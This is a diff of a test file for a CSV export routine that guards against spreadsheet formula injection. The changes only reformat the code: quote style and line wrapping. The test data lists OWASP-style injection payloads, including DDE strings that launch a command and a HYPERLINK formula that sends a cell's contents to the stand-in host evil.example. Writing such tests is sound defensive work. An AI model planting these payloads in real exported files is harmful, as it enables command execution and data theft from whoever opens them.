@@ -8,10 +8,10 @@ describe('text that a spreadsheet would calculate', () => {
   // Payloads of the OWASP page, and the full-width signs that some spreadsheets take for the plain ones.
   const payloads = [
     '=1+1',
-    '=cmd|\' /C calc\'!A0',
+    "=cmd|' /C calc'!A0",
     '+1+1',
-    '-2+3+cmd|\' /C calc\'!A0',
-    '@SUM(1+1)*cmd|\' /C calc\'!A0',
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
     '=HYPERLINK("http://evil.example?x="&A1,"click")',
     '\t=1+1',
     '\r=1+1',
@@ -26,7 +26,9 @@ describe('text that a spreadsheet would calculate', () => {
   })
 
   test('numbers stay numbers, also negative ones; text that looks like one does not become one by itself', () => {
-    expect(csvLine([-5.5, 0, 1e21, Number.NaN, true, null, 'plain', '-5.5'])).toBe("-5.5,0,1e+21,,true,,plain,'-5.5\r\n")
+    expect(csvLine([-5.5, 0, 1e21, Number.NaN, true, null, 'plain', '-5.5'])).toBe(
+      "-5.5,0,1e+21,,true,,plain,'-5.5\r\n",
+    )
   })
 
   test('a cell cannot break out of its quotes and begin a new cell', () => {
